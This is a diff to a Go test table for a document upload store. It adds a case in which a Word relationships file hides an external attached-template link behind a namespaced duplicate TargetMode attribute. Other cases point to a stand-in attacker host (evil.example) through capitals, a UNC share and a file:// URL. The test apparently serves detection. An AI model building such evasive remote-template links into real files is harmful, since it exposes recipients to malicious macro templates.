@@ -33,6 +33,7 @@ func TestStore_SaveUpload_linked(t *testing.T) {
 		id      string
 	}{
 		"a template from elsewhere":  {"word/_rels/settings.xml.rels", link("attachedTemplate", "External", "https://evil.example/a.dotm"), "document.active"},
+		"one under another name":     {"word/_rels/settings.xml.rels", []byte(`<Relationships><Relationship xmlns:a="x" a:TargetMode="Internal" TargetMode="External" Type="` + types + `attachedTemplate" Target="https://evil.example/a.dotm"/></Relationships>`), "document.active"},
 		"in capitals":                {"word/_rels/settings.xml.RELS", link("attachedTemplate", "External", "HTTPS://evil.example/a.dotm"), "document.active"},
 		"from a share":               {"word/_rels/settings.xml.rels", link("attachedTemplate", "External", `\\evil.example\a.dotm`), "document.active"},
 		"from a share, as a file":    {"word/_rels/settings.xml.rels", link("attachedTemplate", "External", "file://evil.example/a.dotm"), "document.active"},
